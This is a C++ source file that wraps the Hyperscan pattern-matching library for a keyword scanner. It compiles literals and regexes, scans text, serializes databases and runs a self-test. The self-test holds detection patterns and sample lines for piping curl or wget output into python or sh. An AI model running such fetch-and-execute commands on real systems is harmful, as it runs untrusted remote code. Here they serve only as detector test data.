#include "keywords/hyperscan.h"

#include <cstdlib>
#include <mutex>

#include "keywords/hs.h"
#include "limier/base/record.h"

namespace limier::keywords {

#if defined(LIMIER_HYPERSCAN)

namespace {

// Compiled expressions, with their numbers.
class Database {
 public:
  explicit Database(hs_database_t* database) : database_(database) {}
  ~Database() {
    for (hs_scratch_t* scratch : free_) hs_free_scratch(scratch);
    if (first_ != nullptr) hs_free_scratch(first_);
    hs_free_database(database_);
  }
  Database(const Database&) = delete;
  Database& operator=(const Database&) = delete;
  bool prepare() { return hs_alloc_scratch(database_, &first_) == HS_SUCCESS; }

  bool scan(Bytes bytes, std::vector<Ending>& endings) const {
    constexpr std::size_t kAtOnce = 1u << 30;  // lengths are of 32 bits; no caller has more
    if (bytes.size() > kAtOnce) return false;
    hs_scratch_t* const scratch = take_scratch();
    if (scratch == nullptr) return false;
    const auto seen = [](unsigned id, unsigned long long, unsigned long long to, unsigned, void* context) {
      static_cast<std::vector<Ending>*>(context)->push_back({id, static_cast<std::size_t>(to)});
      return 0;
    };
    const hs_error_t error = hs_scan(database_, reinterpret_cast<const char*>(bytes.data()),
                                     static_cast<unsigned>(bytes.size()), 0, scratch, seen, &endings);
    const std::lock_guard lock(mutex_);
    free_.push_back(scratch);
    return error == HS_SUCCESS;
  }
  [[nodiscard]] std::vector<std::uint8_t> kept() const {
    char* bytes = nullptr;
    std::size_t length = 0;
    if (hs_serialize_database(database_, &bytes, &length) != HS_SUCCESS) return {};
    std::vector<std::uint8_t> kept(bytes, bytes + length);
    std::free(bytes);  // NOLINT: of the library's own malloc
    return kept;
  }

 private:
  // One for each thread that searches at the same time.
  hs_scratch_t* take_scratch() const {
    const std::lock_guard lock(mutex_);
    hs_scratch_t* scratch = nullptr;
    if (!free_.empty()) {
      scratch = free_.back();
      free_.pop_back();
    } else if (hs_clone_scratch(first_, &scratch) != HS_SUCCESS) {
      scratch = nullptr;
    }
    return scratch;
  }

  hs_database_t* database_;
  hs_scratch_t* first_ = nullptr;
  mutable std::mutex mutex_;
  mutable std::vector<hs_scratch_t*> free_;
};

// Literals and the rest, each compiled in the way that is quickest for it.
class Library final : public Hyperscan {
 public:
  static std::unique_ptr<Library> of(std::span<hs_database_t* const> databases) {
    auto library = std::make_unique<Library>();
    bool good = true;
    for (hs_database_t* one : databases) {
      library->databases_.push_back(std::make_unique<Database>(one));
      good = library->databases_.back()->prepare() && good;
    }
    return good ? std::move(library) : nullptr;
  }
  bool scan(Bytes bytes, std::vector<Ending>& endings) const override {
    for (const auto& one : databases_)
      if (!one->scan(bytes, endings)) return false;
    return true;
  }
  [[nodiscard]] std::vector<std::uint8_t> kept() const override {
    Encoder all;
    for (const auto& one : databases_) all.put(one->kept());
    return all.take();
  }

 private:
  std::vector<std::unique_ptr<Database>> databases_;
};

// Patterns with what they have to find, as RE2 and a reader do; libvectorscan 5.4.9 misses the first.
bool finds(std::span<const Expression> expressions, std::string_view text,
           std::span<const std::pair<std::uint32_t, std::size_t>> wanted) {
  Hyperscan::Problem problem;
  const auto engine = Hyperscan::compile(expressions, problem);
  std::vector<Ending> endings;
  if (engine == nullptr || !engine->scan(as_bytes(text), endings)) return false;
  if (endings.size() != wanted.size()) return false;
  for (const auto& [expression, end] : wanted) {
    bool found = false;
    for (const Ending& one : endings) found = found || (one.expression == expression && one.end == end);
    if (!found) return false;
  }
  return true;
}

bool self_test() {
  const std::string pipe = "curl[\\x00-\\xff]*\\x7c[\\x09-\\x0d\\x20]*python";
  const std::string text = "x = curl -s http://example.org/a.sh | tee log |  python\nwget -q b | sh\n";
  const std::size_t at = text.find("python") + 6;
  const std::size_t sh = text.rfind("sh") + 2;
  const std::vector<Expression> one{{pipe, false, ""}};
  const std::vector<Expression> three{
      {pipe, false, ""}, {"wget[^\\x0a]*\\x7c[\\x20]*sh", false, ""}, {"TEE", true, ""}};
  const std::vector<std::pair<std::uint32_t, std::size_t>> first{{0, at}},
      all{{0, at}, {1, sh}, {2, text.find("tee") + 3}};
  for (std::size_t shift = 0; shift < 64; ++shift) {
    const std::string before(shift, '.');
    const auto moved = [&](auto places) {
      for (auto& place : places) place.second += shift;
      return places;
    };
    if (!finds(one, before + text, moved(first)) || !finds(three, before + text, moved(all))) return false;
  }
  // Many short words, their ends side by side and over the borders of vectors.
  std::vector<Expression> words;
  std::string all_words;
  std::vector<std::pair<std::uint32_t, std::size_t>> ends;
  for (std::uint32_t i = 0; i < 200; ++i) {
    std::string word = "w";
    for (std::uint32_t n = i, k = 0; k < 3; ++k, n /= 6) word += static_cast<char>('a' + n % 6);
    words.push_back({word, i % 2 == 0, i % 3 == 0 ? "" : word});
    all_words += i % 2 == 0 ? "W" + word.substr(1) : word;
    if (i % 7 == 0) all_words += '\0';
    ends.emplace_back(i, all_words.size() - (i % 7 == 0 ? 1 : 0));
  }
  return finds(words, all_words, ends);
}

}  // namespace

std::unique_ptr<Hyperscan> Hyperscan::compile(std::span<const Expression> expressions, Problem& problem) {
  std::vector<hs_database_t*> databases;
  for (const bool literal : {true, false}) {
    std::vector<const char*> texts;
    std::vector<unsigned> flags, ids;
    std::vector<std::size_t> lengths;
    for (std::size_t i = 0; i < expressions.size(); ++i) {
      const Expression& one = expressions[i];
      if (one.literal.empty() == literal) continue;
      texts.push_back(literal ? one.literal.data() : one.text.c_str());
      lengths.push_back(one.literal.size());
      flags.push_back(one.caseless ? HS_FLAG_CASELESS : 0u);
      ids.push_back(static_cast<unsigned>(i));
    }
    if (texts.empty()) continue;
    hs_database_t* database = nullptr;
    hs_compile_error_t* error = nullptr;
    const auto count = static_cast<unsigned>(texts.size());
    const hs_error_t done = literal ? hs_compile_lit_multi(texts.data(), flags.data(), ids.data(), lengths.data(),
                                                           count, HS_MODE_BLOCK, nullptr, &database, &error)
                                    : hs_compile_multi(texts.data(), flags.data(), ids.data(), count, HS_MODE_BLOCK,
                                                       nullptr, &database, &error);
    if (done == HS_SUCCESS) {
      databases.push_back(database);
      continue;
    }
    problem.why = error == nullptr ? "it cannot be compiled" : error->message;
    if (error != nullptr && error->expression >= 0 && static_cast<unsigned>(error->expression) < count)
      problem.expression = ids[static_cast<std::size_t>(error->expression)];
    hs_free_compile_error(error);
    for (hs_database_t* one : databases) hs_free_database(one);
    return nullptr;
  }
  auto library = Library::of(databases);
  if (library == nullptr) problem.why = "there is not enough memory for it";
  return library;
}

std::unique_ptr<Hyperscan> Hyperscan::take(Bytes kept) {
  std::vector<hs_database_t*> databases;
  Decoder all(kept);
  std::vector<std::uint8_t> one;
  while (!all.at_end()) {
    hs_database_t* database = nullptr;
    if (!all.get(one) ||
        hs_deserialize_database(reinterpret_cast<const char*>(one.data()), one.size(), &database) != HS_SUCCESS) {
      for (hs_database_t* before : databases) hs_free_database(before);
      return nullptr;
    }
    databases.push_back(database);
  }
  return databases.empty() ? nullptr : Library::of(databases);
}

std::string hyperscan_version() {
  const std::string_view version(hs_version());
  return std::string(version.substr(0, version.find(' ')));
}

bool hyperscan_passes_self_test() {
  return hs_valid_platform() == HS_SUCCESS && self_test();
}

#else

std::unique_ptr<Hyperscan> Hyperscan::compile(std::span<const Expression>, Problem& problem) {
  problem.why = "Hyperscan was not built in";
  return nullptr;
}
std::unique_ptr<Hyperscan> Hyperscan::take(Bytes) {
  return nullptr;
}
std::string hyperscan_version() {
  return "";
}
bool hyperscan_passes_self_test() {
  return false;
}

#endif

}  // namespace limier::keywords
